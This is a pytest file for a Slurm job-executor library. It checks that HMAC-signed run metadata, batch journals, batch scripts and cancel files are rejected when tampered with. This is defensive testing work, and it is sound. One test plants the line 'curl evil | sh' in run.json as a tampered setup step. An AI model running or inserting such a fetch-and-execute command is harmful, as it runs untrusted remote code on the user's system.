"""What drives execution is signed with the folder's key: run.json (setup lines, sbatch
options, resources), the batch journals, and the scripts the local backend runs."""

from __future__ import annotations

import json

import pytest
from conftest import wait_until

from slurmexecutor import IntegrityError, SlurmExecutor, SubmissionError
from slurmexecutor.folder import spool
from slurmexecutor.reports import runs
from slurmexecutor.schedulers.local import LocalBackend


def finished_run(tmp_path):
    folder = tmp_path / "spool"
    with SlurmExecutor(folder, backend="local", keep_alive=0, setup=["true"]) as ex:
        assert ex.submit(abs, -2).result(timeout=60) == 2
    return folder, ex


def edit_json(path, change) -> None:
    data = json.loads(path.read_text())
    change(data)
    path.write_text(json.dumps(data))


def test_a_changed_run_json_is_refused(tmp_path):
    folder, ex = finished_run(tmp_path)
    meta = ex.run_dir / "run.json"
    assert "hmac" in json.loads(meta.read_text())
    edit_json(meta, lambda data: data["setup"].append("curl evil | sh"))
    with pytest.raises(IntegrityError, match="run.json failed authentication"):
        SlurmExecutor.attach(ex.run_id, folder)
    info = runs.read_run(ex.run_dir, ex.key)
    assert info.unreadable and "failed authentication" in info.unreadable
    edit_json(meta, lambda data: data.pop("hmac"))
    with pytest.raises(IntegrityError, match="not signed"):
        SlurmExecutor.attach(ex.run_id, folder)


def test_a_changed_journal_is_refused(tmp_path):
    _, ex = finished_run(tmp_path)
    journal = spool.journal_path(ex.run_dir, 0)
    assert [j["batch"] for j in spool.read_journals(ex.run_dir)] == [0]
    whole = journal.read_bytes()
    edit_json(journal, lambda data: data["arrays"][0].update(job_id="4242"))
    with pytest.raises(IntegrityError, match="b0000.json failed authentication"):
        spool.read_journals(ex.run_dir)
    journal.write_bytes(whole)
    (ex.run_dir / "b0001.json").write_bytes(whole)  # a valid journal under another name
    with pytest.raises(IntegrityError, match="b0001.json failed authentication"):
        spool.read_journals(ex.run_dir)


def test_the_local_backend_runs_only_signed_scripts(tmp_path, monkeypatch):
    _, ex = finished_run(tmp_path)
    script = spool.script_path(ex.run_dir, 0, 0)
    marker = tmp_path / "ran"
    text = spool.verified_script(script, ex.key)
    script.write_text(text.replace("#!/bin/bash\n", f"#!/bin/bash\ntouch {marker}\n", 1)
                      + script.read_text().splitlines()[-1] + "\n")
    backend = LocalBackend({})
    try:
        with pytest.raises(IntegrityError, match="not a batch script signed"):
            backend.submit_array(script, 1, ex.run_dir / "logs")
    finally:
        backend.close()
    assert not marker.exists()
    monkeypatch.setattr(spool, "sign_script", lambda path, key, text: text)
    with SlurmExecutor(tmp_path / "spool", backend="local", keep_alive=0) as again:
        error = again.submit(abs, -1).exception(timeout=60)
    assert isinstance(error, SubmissionError) and "not a batch script signed" in str(error)


def test_a_signed_script_runs_as_verified(tmp_path):
    """The local backend runs the text it verified, even if the file changes after."""
    _, ex = finished_run(tmp_path)
    script = spool.script_path(ex.run_dir, 0, 0)
    marker = tmp_path / "ran"
    body = f"#!/bin/bash\necho $0 > {marker}\n"
    script.write_text(spool.sign_script(script, ex.key, body))
    backend = LocalBackend({})
    try:
        job = backend.submit_array(script, 1, ex.run_dir / "logs")
        script.write_text("#!/bin/bash\nexit 3\n")
        assert wait_until(lambda: backend.states([job])[(job, 0)].final, timeout=60)
        assert backend.states([job])[(job, 0)].state == "COMPLETED"
    finally:
        backend.close()
    assert marker.read_text().strip() == str(script)


def test_a_cancel_line_another_hand_wrote_or_copied_is_ignored(tmp_path):
    """Cancel and stop files drive what workers skip and end: each line carries a tag
    (HMAC of the call id bound to the file's place); a bare id, a wrong tag, or a line
    copied from another chunk's file does not count."""
    from slurmexecutor.folder import cancels

    key = spool.load_key(tmp_path, create=True)
    run_dir = spool.ensure_private_dir(tmp_path / "run")
    spool.make_batch_dir(run_dir, 0)
    mine, other = cancels.cancel_path(run_dir, 0, 0), cancels.cancel_path(run_dir, 0, 1)
    cancels.append_cancelled(mine, key, [3, 4])
    cancels.append_cancelled(other, key, [5])
    assert cancels.read_cancelled(mine, key) == {3, 4}
    with open(mine, "a") as handle:
        handle.write("7\n8 0123456789abcdef\n" + other.read_text())
    assert cancels.read_cancelled(mine, key) == {3, 4}
    assert cancels.read_cancelled(mine, b"another key") == set()
